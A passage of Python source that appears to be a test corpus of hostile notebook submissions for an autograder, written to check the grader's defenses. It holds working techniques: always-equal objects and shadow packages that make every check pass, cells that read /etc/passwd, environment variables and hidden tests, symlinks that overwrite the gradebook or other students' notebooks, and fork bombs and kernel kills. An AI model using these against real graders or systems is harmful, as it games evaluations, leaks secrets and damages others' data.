        notes="deletes the locked who_goes_first cell (only test cells come back) and defines its own in a "
              "plain cell; the wrong schedule then passes; A and B honest",
    ),
    Submission(
        assignment=A06, name="a06-edit-and-strip-test-cell", klass="rebind",
        expect=expect(A06, "test_drawn_outcomes", "test_deadlock_schedule", "test_debug_in_use"),
        answers=answers(A06, honest=("test_drawn_outcomes", "test_deadlock_schedule", "test_debug_in_use"),
                        wrong=("test_transfer",)),
        edit_cells={"test_transfer": '"""Part C: `transfer` moves money correctly."""\npass'},
        strip_metadata={"test_transfer"},
        notes="overwrites the test cell of part C with `pass` and removes its metadata, so that it is a plain "
              "cell; A, B and D honest",
    ),
    Submission(
        assignment=A02, name="a02-edit-test-cell", klass="rebind",
        expect=expect(A02, "test_predicted_debug", "test_add_item", "test_read_even_if_poisoned"),
        answers=answers(A02, honest=("test_predicted_debug", "test_add_item", "test_read_even_if_poisoned"),
                        try_add=_c("""
                            def try_add(m, n):
                                with m.lock() as guard:
                                    guard.value += n
                                return True
                        """)),
        edit_cells={"test_try_add": _c("""
            \"\"\"Part D: `try_add` adds when the lock is free.\"\"\"
            from rustsync.grading import call, check_equal
            check_equal(call(try_add, Mutex(1), 2), True, "try_add(Mutex(1), 2)", reveal=True)
        """)},
        notes="edits the locked test cell of part D down to a check its blocking try_add passes (the "
              "metadata stays); A, B and C honest",
    ),
]

REBIND += [
    Submission(
        assignment=A04, name="a04-assign-clone-in-two-threads", klass="rebind",
        expect=expect(A04, "test_prediction", "test_total_length"),
        answers=answers(A04, honest=("test_prediction", "test_total_length"), lost_count_schedule=_c("""
            clone_in_two_threads = lambda: 2  # the locked helper, rebound by assignment
            lost_count_schedule = []
        """)),
        notes="rebinds the locked clone_in_two_threads by plain assignment to a lambda that returns 2, so that "
              "the empty schedule passes; A and C honest",
    ),
    Submission(
        assignment=A05, name="a05-assign-owners-over-time", klass="rebind",
        expect=expect(A05, "test_parallel_sum", "test_atomic_sum"),
        answers=answers(A05, honest=("test_parallel_sum", "test_atomic_sum"), wrong=("test_owner_counts",)),
        extra_cells=[("owner_counts", "owners_over_time = lambda n: owner_counts")],
        notes="defines an owners_over_time (the Python twin the part used to hold) returning the (wrong) "
              "answer, in a cell of its own; B and C honest",
    ),
]

ODD_EQ = [
    Submission(
        assignment=A03, name="a03-always-equal-int-str", klass="odd-eq",
        expect=expect(A03, "test_count_with_arc", "test_second_first_schedule"),
        answers=answers(A03, honest=("test_count_with_arc", "test_second_first_schedule"),
                        prediction=ALWAYS_EQUAL["int"] + "\n\n\n" + ALWAYS_EQUAL["str"] + "\n\n\n" + _c("""
                            threads_started = AlwaysEqualInt(7)
                            error_code = AlwaysEqualStr("E9999")
                        """)),
        notes="the prediction is an int subclass and a str subclass whose == is always True and != always "
              "False; B and C honest",
    ),
    Submission(
        assignment=A02, name="a02-always-equal-str-and-ints-for-bools", klass="odd-eq",
        expect=expect(A02, "test_add_item", "test_read_even_if_poisoned"),
        answers=answers(A02, honest=("test_add_item", "test_read_even_if_poisoned"),
                        predicted_debug=ALWAYS_EQUAL["str"] + "\n\n\n" + _c("""
                            debug_after_panic = AlwaysEqualStr("?")
                            debug_after_clear = AlwaysEqualStr("?")
                        """),
                        try_add=_c("""
                            def try_add(m, n):
                                try:
                                    guard = m.try_lock()
                                except WouldBlock:
                                    return 0
                                with guard:
                                    guard.value += n
                                return 1
                        """)),
        notes="repr predictions that equal any string; try_add returns 1 and 0 where True and False are "
              "asked (1 == True); B and C honest",
    ),
    Submission(
        assignment=A02, name="a02-always-equal-return-values", klass="odd-eq",
        expect=expect(A02, "test_predicted_debug", "test_try_add"),
        answers=answers(A02, honest=("test_predicted_debug", "test_try_add"),
                        add_item=ALWAYS_EQUAL["int"] + "\n\n\n" + _c("""
                            def add_item(shopping, item):
                                with shopping.lock() as guard:
                                    guard.value.append(item)
                                return AlwaysEqualInt(-1)
                        """),
                        read_even_if_poisoned=ALWAYS_EQUAL["list"] + "\n\n\n" + _c("""
                            def read_even_if_poisoned(m):
                                m.clear_poison()
                                return AlwaysEqualList()
                        """)),
        notes="functions whose results are objects equal to anything (an int and a list subclass) instead "
              "of the length and the data; A and D honest",
    ),
    Submission(
        assignment=A05, name="a05-always-equal-tuple", klass="odd-eq",
        expect=expect(A05, "test_parallel_sum", "test_atomic_sum"),
        answers=answers(A05, honest=("test_parallel_sum", "test_atomic_sum"),
                        owner_counts=ALWAYS_EQUAL["tuple"] + "\n\n\n"
                        + "owner_counts = AlwaysEqualTuple((0, 0, 0))"),
        notes="owner_counts is a tuple subclass equal to any tuple; B and C honest",
    ),
    Submission(
        assignment=A05, name="a05-bools-for-ints", klass="odd-eq",
        expect=expect(A05, "test_parallel_sum", "test_atomic_sum"),
        answers=answers(A05, honest=("test_parallel_sum", "test_atomic_sum"),
                        owner_counts="owner_counts = (True, 4, True)"),
        notes="True where the count 1 is asked: (True, 4, True) == (1, 4, 1); B and C honest",
    ),
    Submission(
        assignment=A06, name="a06-always-equal-names", klass="odd-eq",
        expect=expect(A06, "test_drawn_outcomes", "test_deadlock_schedule", "test_transfer"),
        answers=answers(A06, honest=("test_drawn_outcomes", "test_deadlock_schedule", "test_transfer"),
                        debug_in_use=ALWAYS_EQUAL["str"] + "\n\n\n" + _c("""
                            debug_while_locked = AlwaysEqualStr("no idea")
                            debug_while_borrowed = AlwaysEqualStr("no idea")
                        """)),
        notes="the Debug lines are str subclasses equal to any string; A, B and C honest",
    ),
    Submission(
        assignment=A03, name="a03-true-for-int", klass="odd-eq",
        expect=expect(A03, "test_count_with_arc", "test_second_first_schedule"),
        answers=answers(A03, honest=("test_count_with_arc", "test_second_first_schedule"), prediction=_c("""
            threads_started = False
            error_code = "E0382"
        """)),
        notes="False where a number of threads is asked (False == 0); B and C honest",
    ),
    Submission(
        assignment=A01, name="a01-int-for-set", klass="odd-eq",
        expect=expect(A01, "test_fixed_worker", "test_lost_update_schedule"),
        answers=answers(A01, honest=("test_fixed_worker", "test_lost_update_schedule"),
                        drawn_counts="drawn_counts = 4"),
        notes="a number where a tuple is asked; B and C honest",
    ),
    Submission(
        assignment=A00, name="a00-set-subclass", klass="odd-eq",
        expect=expect(A00, "test_lost_update_schedule", "test_lowest_count_schedule"),
        answers=answers(A00, honest=("test_lost_update_schedule", "test_lowest_count_schedule"),
                        drawn_counts=_c("""
                            class AgreeableTuple(tuple):
                                def __eq__(self, other):
                                    return True

                                def __ne__(self, other):
                                    return False

                                __hash__ = None


                            drawn_counts = AgreeableTuple((4, 4, 4))
                        """)),
        notes="a tuple subclass equal to any tuple, holding wrong counts; B and C honest",
    ),
]

SHADOW_PACKAGE = [
    Submission(
        assignment=A03, name="a03-shadow-package-sys-modules", klass="shadow-package",
        expect=expect(A03),
        answers=answers(A03, wrong=T[A03]),
        files={
            "rustsync/__init__.py": FIND_REAL + "\n\n\n" + _c('''
                import importlib.util

                _here = os.path.dirname(os.path.abspath(__file__))
                _saved = list(sys.path)
                sys.path.insert(0, os.path.dirname(_real_package(_here)))
                sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != os.path.dirname(_here)]
                del sys.modules[__name__]
                try:
                    _real = importlib.import_module("rustsync")  # the import system returns this module
                finally:
                    sys.path[:] = _saved
                _spec = importlib.util.spec_from_file_location("rustsync.grading", os.path.join(_here, "grading.py"))
                _fake = importlib.util.module_from_spec(_spec)
                sys.modules["rustsync.grading"] = _fake
                _spec.loader.exec_module(_fake)
                _real.grading = _fake
            ''') + "\n",
            "rustsync/grading.py": FAKE_GRADING,
        },
        notes="ships rustsync/ beside the notebook: its __init__ loads the real package and puts a grading "
              "module whose checks never fail in sys.modules; all answers wrong",
    ),
    Submission(
        assignment=A06, name="a06-shadow-package-path", klass="shadow-package",
        expect=expect(A06, "test_drawn_outcomes", "test_debug_in_use"),
        answers=answers(A06, honest=("test_drawn_outcomes", "test_debug_in_use"),
                        wrong=("test_deadlock_schedule", "test_transfer")),
        files={
            "rustsync/__init__.py": PATH_FIRST_INIT,
            "rustsync/grading.py": FAKE_GRADING,
            "rustsync/sched.py": _exec_real("sched") + "\n\n" + _c('''
                _honest_explore = explore


                def explore(program, **options):
                    found = _honest_explore(program, **options)
                    for outcome in [o for o in found.outcomes if isinstance(o, Deadlock)]:
                        del found.outcomes[outcome]
                        found.examples.pop(outcome, None)
                    return found
            ''') + "\n",
        },
        notes="ships rustsync/ whose __init__ runs the real one with itself first on the package path, with "
              "a grading.py whose checks never fail and a sched.py whose explore hides deadlocks; A and D honest",
    ),
    Submission(
        assignment=A02, name="a02-shadow-ipykernel-launcher", klass="shadow-package",
        expect=expect(A02),
        answers=answers(A02, wrong=T[A02]),
        files={
            "ipykernel_launcher.py": _c('''
                """Stands in for ipykernel's launcher: makes the checks pass, then starts the real kernel."""
                import os
                import sys

                _here = os.path.dirname(os.path.abspath(__file__))
                sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != _here]

                import rustsync.grading as grading


                def _passes(*args, **kwargs):
                    return None


                for _name in dir(grading):
                    if _name.startswith("check_"):
                        setattr(grading, _name, _passes)

                from ipykernel import kernelapp

                kernelapp.launch_new_instance()
            ''') + "\n",
        },
        notes="ships ipykernel_launcher.py: `python -m ipykernel_launcher` started in the submission's folder "
              "runs it instead of ipykernel's, before any cell; all answers wrong",
    ),
    Submission(
        assignment=A05, name="a05-shadow-module-file", klass="shadow-package",
        expect=expect(A05, "test_owner_counts"),
        answers=answers(A05, honest=("test_owner_counts",), wrong=("test_parallel_sum", "test_atomic_sum")),
        files={
            "rustsync.py": FIND_REAL + "\n\n\n" + _c('''
                import types

                _real = _real_package(os.path.join(os.path.dirname(os.path.abspath(__file__)), "rustsync"))
                __path__ = [_real]  # a module with a __path__ is a package: submodules come from the real folder
                __package__ = "rustsync"
                grading = types.ModuleType("rustsync.grading")
                exec(compile(FAKE, "grading.py", "exec"), grading.__dict__)
                sys.modules["rustsync.grading"] = grading
                with open(os.path.join(_real, "__init__.py")) as _source:
                    exec(compile(_source.read(), os.path.join(_real, "__init__.py"), "exec"))
            ''').replace("FAKE", repr(FAKE_GRADING)) + "\n",
        },
        notes="ships a single rustsync.py that poses as the package (its __path__ is the real folder) with a "
              "grading module whose checks never fail; A honest",
    ),
    Submission(
        assignment=A01, name="a01-shadow-grading-exec", klass="shadow-package",
        expect=expect(A01, "test_drawn_counts"),
        answers=answers(A01, honest=("test_drawn_counts",), wrong=("test_fixed_worker", "test_lost_update_schedule")),
        files={
            "rustsync/__init__.py": PATH_FIRST_INIT,
            "rustsync/grading.py": _exec_real("grading") + "\n\n\n" + _c('''
                def _passes(*args, **kwargs):
                    return None


                for _name in [n for n in list(globals()) if n.startswith("check_")]:
                    globals()[_name] = _passes
            ''') + "\n",
        },
        notes="ships rustsync/ with a grading.py that runs the real module's code, then replaces its checks; "
              "A honest",
    ),
]

LEAK = [
    Submission(
        assignment=A03, name="a03-leak-files", klass="leak",
        expect=expect(A03, *T[A03]),
        answers=answers(A03, honest=T[A03]),
        extra_cells=[("test_second_first_schedule", _c("""
            import os

            import rustsync

            assignment = "a03_sharing_a_mutex"
            package_home = os.path.dirname(os.path.dirname(rustsync.__file__))
            places = [".", "..", "../..", "../../..", "../../../..", "../../../source/" + assignment,
                      "../../../release/" + assignment, "../../../submitted",
                      os.path.join(package_home, "source", assignment)]
            for place in places:
                try:
                    listed = os.listdir(place)
                except OSError as err:
                    print("LEAK: cannot list", place, type(err).__name__)
                    continue
                print("LEAK: listing", place, listed)
                for entry in listed:
                    path = os.path.join(place, entry)
                    if not entry.endswith((".ipynb", ".py", ".db", ".txt")) or not os.path.isfile(path):
                        continue
                    try:
                        with open(path, errors="replace") as f:
                            text = f.read()
                    except OSError as err:
                        print("LEAK: cannot read", path, type(err).__name__)
                        continue
                    for line in text.splitlines():
                        if "HIDDEN" in line or "check_" in line:
                            print("LEAK:", path, line[:300])
        """))],
        notes="after the last test, lists the folders around the kernel's (and next to the installed rustsync) "
              "and prints every line of the notebooks and databases it can read that holds HIDDEN or check_; "
              "all parts honest",
    ),
    Submission(
        assignment=A06, name="a06-leak-history", klass="leak",
        expect=expect(A06, *T[A06]),
        answers=answers(A06, honest=T[A06]),
        extra_cells=[("test_debug_in_use", _c("""
            import linecache

            for entry in In:
                if "HIDDEN" in entry or "check_" in entry:
                    print("LEAK: In:", entry)
            for entry in _ih[-3:]:
                print("LEAK: _ih:", entry[:200])
            print("LEAK: Out:", Out)
            for filename, cached in list(linecache.cache.items()):
                text = "".join(cached[2]) if len(cached) > 2 else ""
                if "HIDDEN" in text or "check_" in text:
                    print("LEAK: linecache", filename, text)
        """))],
        notes="after the last test, prints the earlier test cells (hidden tests included) from In, _ih, Out "
              "and linecache.cache, marked LEAK:; all parts honest",
    ),
    Submission(
        assignment=A02, name="a02-leak-frames", klass="leak",
        # read_even_if_poisoned is right, and what it walks is its own process's stack: it keeps its marks
        expect=expect(A02, "test_add_item", "test_try_add", "test_read_even_if_poisoned"),
        answers=answers(A02, honest=("test_add_item", "test_try_add"),
                        predicted_debug=_c("""
                            import linecache
                            import sys


                            class Tattletale(str):
                                # equal to anything; when a test compares it, prints that test's source and names
                                def __ne__(self, other):
                                    frame = sys._getframe(1)
                                    while frame is not None:
                                        filename = frame.f_code.co_filename
                                        if "ipykernel" in filename or filename.startswith("<"):
                                            print("LEAK: test source:", "".join(linecache.getlines(filename)))
                                            names = sorted(k for k in frame.f_locals if not k.startswith("_"))
                                            print("LEAK: test names:", names)
                                            break
                                        frame = frame.f_back
                                    return False

                                def __eq__(self, other):
                                    return not self.__ne__(other)

                                __hash__ = str.__hash__


                            debug_after_panic = Tattletale("Mutex { data: 1, poisoned: true, .. }")
                            debug_after_clear = Tattletale("?")
                        """),
                        read_even_if_poisoned=_c("""
                            import linecache
                            import sys
                            import threading


                            def read_even_if_poisoned(m):
                                stack = []
                                caller = sys._getframe().f_back  # whoever called me, and their callers
                                while caller is not None:
                                    stack.append(f"{caller.f_code.co_filename}:{caller.f_lineno} "
                                                 f"{sorted(caller.f_locals)[:20]}")
                                    caller = caller.f_back
                                frame = sys._current_frames().get(threading.main_thread().ident)
                                while frame is not None:
                                    stack.append(f"{frame.f_code.co_filename}:{frame.f_lineno}")
                                    if "ipykernel" in frame.f_code.co_filename:
                                        stack.append("".join(linecache.getlines(frame.f_code.co_filename)))
                                    frame = frame.f_back
                                out = getattr(sys.stdout, "_original", sys.stdout)  # past the grader's capture
                                out.write("LEAK: the test that called me:\\n" + "\\n".join(stack) + "\\n")
                                try:
                                    guard = m.lock()
                                except PoisonError as err:
                                    guard = err.into_inner()
                                    m.clear_poison()
                                with guard:
                                    return guard.value
                        """)),
        notes="a prediction object whose != walks f_back to the test cell and prints its source and names; a "
              "read_even_if_poisoned that prints its callers' frames (f_back) and the main thread's stack (the "
              "hidden test) past the output capture; both parts 0, B and D honest",
    ),
    Submission(
        assignment=A05, name="a05-leak-hooks-env-memory", klass="leak",
        expect=expect(A05, *T[A05]),
        answers=answers(A05, honest=T[A05]),
        extra_cells=[("setup", _c("""
            import gc
            import inspect
            import os
            import threading
            import time

            print("LEAK: environment:", dict(os.environ))
            print("LEAK: stack:", [f"{f.filename}:{f.lineno}" for f in inspect.stack()])


            def tell_hidden(result):
                cell = result.info.raw_cell
                if "HIDDEN" in cell or "check_" in cell:
                    print("LEAK: a cell just ran:", cell)


            get_ipython().events.register("post_run_cell", tell_hidden)


            def strings_in(thing):
                if isinstance(thing, (list, tuple)):
                    return [x for x in thing if isinstance(x, str)]
                if isinstance(thing, dict):
                    return [x for x in thing.values() if isinstance(x, str)]
                return []


            def scan_memory():
                seen = set()
                for _ in range(300):  # about a minute
                    for thing in gc.get_objects():
                        for text in strings_in(thing):
                            if "BEGIN HIDDEN" in text and text not in seen:
                                seen.add(text)
                                print("LEAK: in memory:", text[:2000])
                    time.sleep(0.2)


            threading.Thread(target=scan_memory, daemon=True).start()
        """))],
        notes="prints os.environ and inspect.stack(), registers a post_run_cell hook that prints every test "
              "cell that ran, and a thread that scans gc.get_objects() for hidden tests; all parts honest",
    ),
    Submission(
        assignment=A04, name="a04-leak-course-files", klass="leak",
        expect=expect(A04, *T[A04]),
        answers=answers(A04, honest=T[A04]),
        extra_cells=[("test_total_length", _c("""
            import json
            import os

            assignment = "a04_multiple_ownership"
            try:
                with open(os.path.join("..", "..", "..", "source", assignment, assignment + ".ipynb")) as f:
                    for cell in json.load(f)["cells"]:
                        text = "".join(cell["source"])
                        if "HIDDEN" in text:
                            print("LEAK: solution notebook:", text)
            except (OSError, ValueError) as err:
                print("LEAK: no solution notebook:", type(err).__name__)
            try:
                with open(os.path.join("..", "..", "..", "gradebook.db"), "rb") as f:
                    data = f.read()
                start = data.find(b"BEGIN HIDDEN")
                print("LEAK: gradebook:", data[max(0, start - 500):start + 1500])
            except OSError as err:
                print("LEAK: no gradebook:", type(err).__name__)
            up = "."
            for _ in range(6):
                up = os.path.join(up, "..")
                config = os.path.join(up, "nbgrader_config.py")
                if os.path.isfile(config):
                    with open(config) as f:
                        print("LEAK: course config at", os.path.abspath(config), f.read()[:1000])
                    break
            with open("/etc/passwd") as f:
                print("LEAK: /etc/passwd:", f.read()[:300])
        """))],
        notes="after the last test, reads the source notebook and gradebook.db by relative paths, walks up "
              "for nbgrader_config.py, and reads /etc/passwd; all parts honest",
    ),
    Submission(
        assignment=A00, name="a00-leak-hash", klass="leak",
        expect=expect(A00, "test_lost_update_schedule", "test_lowest_count_schedule"),
        answers=answers(A00, honest=("test_lost_update_schedule", "test_lowest_count_schedule"),
                        drawn_counts=_c("""
                            import inspect


                            class Snitch(int):
                                # an ordinary 2, except that comparing it prints the code that compares it
                                def __eq__(self, other):
                                    for info in inspect.stack()[1:4]:
                                        print("LEAK:", info.filename, info.lineno, info.code_context)
                                        print("LEAK: names:", sorted(info.frame.f_locals)[:40])
                                    return int.__eq__(self, other)

                                __hash__ = int.__hash__


                            drawn_counts = (Snitch(2), 1, 3)
                        """)),
        notes="the right counts, one of them an int subclass whose == prints the calling check's frames "
              "(inspect.stack) when the hidden test compares them; A 0, B and C honest",
    ),
]

DAMAGE = [
    Submission(
        assignment=A03, name="a03-symlink-notebook-to-gradebook", klass="damage",
        expect=expect(A03, *T[A03]),
        answers=answers(A03, honest=T[A03]),
        extra_cells=[("test_second_first_schedule", _c("""
            import os

            notebook = "a03_sharing_a_mutex.ipynb"
            target = "../../../gradebook.db"
            for guess in ("../../../gradebook.db", "../../gradebook.db", "../../../../gradebook.db", "../gradebook.db"):
                if os.path.exists(guess):
                    target = guess
                    break
            try:
                os.remove(notebook)
            except OSError as err:
                print("cannot remove", notebook, type(err).__name__)
            try:
                os.symlink(target, notebook)
                print("linked", notebook, "->", target)
            except OSError as err:
                print("cannot link", type(err).__name__)
        """))],
        notes="replaces its own notebook in the kernel's folder by a symlink to ../../../gradebook.db (or "
              "another guess), so that the grader's write of the graded notebook lands in the gradebook; "
              "all parts honest",
    ),
    Submission(
        assignment=A03, name="a03-symlink-notebook-to-source", klass="damage",
        expect=expect(A03, "test_prediction", "test_second_first_schedule"),
        answers=answers(A03, honest=("test_prediction", "test_second_first_schedule")),
        extra_cells=[("test_second_first_schedule", _c("""
            import os

            notebook = "a03_sharing_a_mutex.ipynb"
            try:
                os.remove(notebook)
                os.symlink("../../../source/a03_sharing_a_mutex/a03_sharing_a_mutex.ipynb", notebook)
            except OSError as err:
                print("cannot link", type(err).__name__)
            for name, target in (("feedback.html", "../../../feedback"),
                                 ("release.ipynb", "../../../release/a03_sharing_a_mutex/a03_sharing_a_mutex.ipynb")):
                try:
                    os.symlink(target, name)
                except OSError as err:
                    print("cannot link", name, type(err).__name__)
        """))],
        symlinks={"leak.html": "../../../source/a03_sharing_a_mutex/a03_sharing_a_mutex.ipynb",
                  "notes.txt": "/etc/passwd"},
        notes="points its notebook at the instructor's source notebook (the graded copy would overwrite the "
              "solutions) and ships symlinks leak.html -> source notebook, notes.txt -> /etc/passwd; B unsolved",
    ),
    Submission(
        assignment=A06, name="a06-other-students", klass="damage",
        expect=expect(A06, *T[A06]),
        answers=answers(A06, honest=T[A06]),
        extra_cells=[("test_debug_in_use", _c("""
            import os

            assignment = "a06_refcell_vs_mutex"
            me = os.path.basename(os.path.dirname(os.getcwd()))
            try:
                others = sorted(s for s in os.listdir("../..") if s != me)
            except OSError:
                others = []
            for other in others:
                for theirs in (os.path.join("..", "..", other, assignment, assignment + ".ipynb"),
                               os.path.join("..", "..", "..", "submitted", other, assignment, assignment + ".ipynb")):
                    try:
                        os.symlink(theirs, "theirs-" + other + "-" + str(len(theirs)) + ".ipynb")
                        os.chmod(theirs, 0o666)
                    except OSError as err:
                        print("cannot reach", theirs, type(err).__name__)
            if others:
                mine = assignment + ".ipynb"
                try:
                    os.remove(mine)
                    os.symlink(os.path.join("..", "..", others[0], assignment, mine), mine)
                except OSError as err:
                    print("cannot link", mine, type(err).__name__)
            for path in ("../../../gradebook.db", "../../../source"):
                try:
                    os.chmod(path, 0o777)
                except OSError as err:
                    print("cannot chmod", path, type(err).__name__)
        """))],
        notes="links to other students' graded and submitted notebooks (its own notebook becomes a link to "
              "another student's, so the grader overwrites theirs) and chmods what it can reach; all honest",
    ),
    Submission(
        assignment=A02, name="a02-big-file-socket-chmod", klass="damage",
        expect=expect(A02, *T[A02]),
        answers=answers(A02, honest=T[A02]),
        extra_cells=[("test_try_add", _c("""
            import os
            import socket

            with open("big.bin", "wb") as big:
                big.truncate(500 * 2**20)  # sparse: 500 MB that take no disk, until someone copies them
            for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket"):
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.settimeout(1)
                try:
                    s.connect(path)
                    print("connected to", path)
                except OSError as err:
                    print("no", path, type(err).__name__)
                finally:
                    s.close()
            os.chmod("a02_mutex_api.ipynb", 0o444)
            os.chmod(".", 0o555)
        """))],
        notes="writes a sparse 500 MB file in the kernel's folder, tries to connect to local Unix sockets "
              "(sends nothing), and makes its notebook and folder read-only; all parts honest",
    ),
    Submission(
        assignment=A06, name="a06-shipped-links-and-files", klass="damage",
        expect=expect(A06, *T[A06]),
        answers=answers(A06, honest=T[A06]),
        files={"timestamp.txt": "2000-01-01 00:00:00.000000 UTC",
               "a06_refcell_vs_mutex.html": "<script>document.title = 'LEAK: script in a shipped page'</script>\n"},
        symlinks={"gradebook.db": "../../../gradebook.db",
                  "leak.html": "../../../source/a06_refcell_vs_mutex/a06_refcell_vs_mutex.ipynb",
                  "notes.txt": "/etc/passwd",
                  "course": "../../..",
                  "loop": "loop",
                  "feedback/a06_refcell_vs_mutex.html": "../../../../gradebook.db"},
        notes="no hostile cell: ships symlinks (to the gradebook, the source notebook, /etc/passwd, the course "
              "folder, itself) and files (an early timestamp.txt, an HTML page named like its feedback); all honest",
    ),
    Submission(
        assignment=A05, name="a05-fifo-notebook-and-timestamp", klass="damage",
        expect=expect(A05, *T[A05]),
        answers=answers(A05, honest=T[A05]),
        extra_cells=[("test_atomic_sum", _c("""
            import os

            with open("timestamp.txt", "w") as stamp:
                stamp.write("2000-01-01 00:00:00.000000 UTC")
            notebook = "a05_arc.ipynb"
            try:
                os.remove(notebook)
                os.mkfifo(notebook)  # whoever writes the graded notebook here waits for a reader forever
            except OSError as err:
                print("cannot", type(err).__name__)
        """))],
        notes="rewrites timestamp.txt with an early date and replaces its notebook by a FIFO, so that writing "
              "the graded notebook blocks; all parts honest",
    ),
    Submission(
        assignment=A04, name="a04-write-up-the-tree", klass="damage",
        expect=expect(A04, *T[A04]),
        answers=answers(A04, honest=T[A04]),
        extra_cells=[("test_total_length", _c("""
            for path in ("../written-by-a-submission.txt", "../../written-by-a-submission.txt",
                         "../../../written-by-a-submission.txt",
                         "../../../source/a04_multiple_ownership/written-by-a-submission.txt"):
                try:
                    with open(path, "w") as f:
                        f.write("a submission wrote this\\n")
                    print("wrote", path)
                except OSError as err:
                    print("cannot write", path, type(err).__name__)
            try:
                with open("../../../nbgrader_config.py", "a") as config:
                    config.write("\\n# appended by a submission: the next nbgrader command runs this file\\n")
                print("appended to nbgrader_config.py")
            except OSError as err:
                print("cannot append", type(err).__name__)
        """))],
        notes="writes files next to its folder, in the course root and in source/, and appends to the "
              "course's nbgrader_config.py (which the next nbgrader command runs); all parts honest",
    ),
]

LOSE_GRADING = [
    Submission(
        assignment=A03, name="a03-loop-swallows-everything", klass="lose-grading",
        expect=expect(A03, "test_prediction", "test_second_first_schedule"),
        answers=answers(A03, honest=("test_prediction", "test_second_first_schedule")),
        extra_cells=[("test_prediction", _c("""
            import time

            while True:
                try:
                    time.sleep(0.05)
                except BaseException:
                    pass
        """))],
        notes="a top-level loop that catches BaseException, so no interrupt ends it; A before and C after it "
              "honest, B unsolved",
    ),
    Submission(
        assignment=A03, name="a03-ignore-sigint", klass="lose-grading",
        expect=expect(A03, "test_prediction", "test_second_first_schedule"),
        answers=answers(A03, honest=("test_prediction", "test_second_first_schedule"), wrong=("test_count_with_arc",)),
        extra_cells=[("test_prediction", _c("""
            import signal
            import time

            signal.signal(signal.SIGINT, signal.SIG_IGN)
            while True:
                time.sleep(0.1)
        """))],
        notes="ignores SIGINT, then loops: the kernel's interrupt does nothing; A before and C after honest",
    ),
    Submission(
        assignment=A06, name="a06-os-exit", klass="lose-grading",
        expect=expect(A06, "test_drawn_outcomes", "test_transfer", "test_debug_in_use"),
        answers=answers(A06, honest=("test_drawn_outcomes", "test_transfer", "test_debug_in_use"),
                        wrong=("test_deadlock_schedule",)),
        extra_cells=[("test_drawn_outcomes", "import os\n\nos._exit(0)")],
        notes="os._exit(0) after part A: the kernel is gone; A before, C and D after honest",
    ),
    Submission(
        assignment=A06, name="a06-kill-9", klass="lose-grading",
        expect=expect(A06, "test_drawn_outcomes", "test_deadlock_schedule", "test_debug_in_use"),
        answers=answers(A06, honest=("test_drawn_outcomes", "test_deadlock_schedule", "test_debug_in_use")),
        extra_cells=[("test_deadlock_schedule", "import os\n\nos.kill(os.getpid(), 9)")],
        notes="the kernel kills itself with SIGKILL after part B; A and B before, D after honest, C unsolved",
    ),
    Submission(
        assignment=A02, name="a02-segfault", klass="lose-grading",
        expect=expect(A02, "test_predicted_debug", "test_read_even_if_poisoned", "test_try_add"),
        answers=answers(A02, honest=("test_predicted_debug", "test_read_even_if_poisoned", "test_try_add")),
        extra_cells=[("test_predicted_debug", "import ctypes\n\nctypes.string_at(0)")],
        notes="a segfault (ctypes.string_at(0)) after part A; A before, C and D after honest, B unsolved",
    ),
    Submission(
        assignment=A02, name="a02-exit", klass="lose-grading",
        expect=expect(A02, "test_predicted_debug", "test_add_item", "test_try_add"),
        answers=answers(A02, honest=("test_predicted_debug", "test_add_item", "test_try_add")),
        extra_cells=[("test_add_item", "exit()")],
        notes="exit() after part B; A and B before, D after honest, C unsolved",
    ),
    Submission(
        assignment=A05, name="a05-stderr-thread", klass="lose-grading",
        expect=expect(A05, "test_owner_counts", "test_parallel_sum"),
        answers=answers(A05, honest=("test_owner_counts", "test_parallel_sum")),
        extra_cells=[("test_owner_counts", _c("""
            import sys
            import threading
            import time


            def chatter():
                for n in range(60_000):  # ten minutes at most
                    sys.stderr.write(f"still here {n}\\n")
                    time.sleep(0.01)


            threading.Thread(target=chatter, daemon=True).start()
        """))],
        notes="a thread writes to stderr every 10 ms, which lands in the test cells that run later (stderr "
              "scores a test cell 0); A before and B after honest, C unsolved",
    ),
    Submission(
        assignment=A04, name="a04-busy-loop", klass="lose-grading",
        expect=expect(A04, "test_prediction", "test_total_length"),
        answers=answers(A04, honest=("test_prediction", "test_total_length"), wrong=("test_lost_count_schedule",)),
        extra_cells=[("test_prediction", _c("""
            while True:
                try:
                    pass
                except BaseException:
                    pass
        """))],
        notes="a busy top-level loop that swallows every interrupt; A before and C after honest",
    ),
    Submission(
        assignment=A01, name="a01-recursion-limit", klass="lose-grading",
        expect=expect(A01, "test_drawn_counts", "test_lost_update_schedule"),
        answers=answers(A01, honest=("test_drawn_counts", "test_lost_update_schedule")),
        extra_cells=[("test_drawn_counts", _c("""
            import sys

            limit = 1000
            while limit > 10:
                try:
                    sys.setrecursionlimit(limit)
                except RecursionError:
                    break
                limit -= 5
        """))],
        notes="lowers the recursion limit as far as it goes, so that the kernel and later tests fail with "
              "RecursionError; A before and C after honest, B unsolved",
    ),
]

LIMITS = [
    Submission(
        assignment=A03, name="a03-eight-gigabytes", klass="limits",
        expect=expect(A03, "test_prediction", "test_second_first_schedule"),
        answers=answers(A03, honest=("test_prediction", "test_second_first_schedule")),
        extra_cells=[("test_prediction", "hog = bytearray(8 * 2**30)")],
        notes="allocates 8 GB at the top level (must fail fast under a memory limit); A before and C after "
              "honest, B unsolved",
    ),
    Submission(
        assignment=A06, name="a06-fork-200", klass="limits",
        expect=expect(A06, "test_drawn_outcomes", "test_debug_in_use"),
        answers=answers(A06, honest=("test_drawn_outcomes", "test_debug_in_use")),
        extra_cells=[("test_drawn_outcomes", _c("""
            import os
            import time

            children = []
            for _ in range(200):  # bounded: 200 children that sleep a minute
                pid = os.fork()
                if pid == 0:
                    time.sleep(60)
                    os._exit(0)
                children.append(pid)
            print(len(children), "children")
        """))],
        notes="forks 200 children that each sleep a minute (a bounded fork bomb); A before and D after "
              "honest, B and C unsolved",
    ),
    Submission(
        assignment=A02, name="a02-huge-output", klass="limits",
        expect=expect(A02, "test_predicted_debug", "test_add_item", "test_read_even_if_poisoned"),
        answers=answers(A02, honest=("test_predicted_debug", "test_add_item", "test_read_even_if_poisoned")),
        extra_cells=[("test_add_item", _c("""
            print("A" * (64 * 2**20))
            for n in range(200_000):
                print(n)
        """))],
        notes="prints 64 MB in one line and 200,000 short lines; A, B and C honest, D unsolved",
    ),
    Submission(
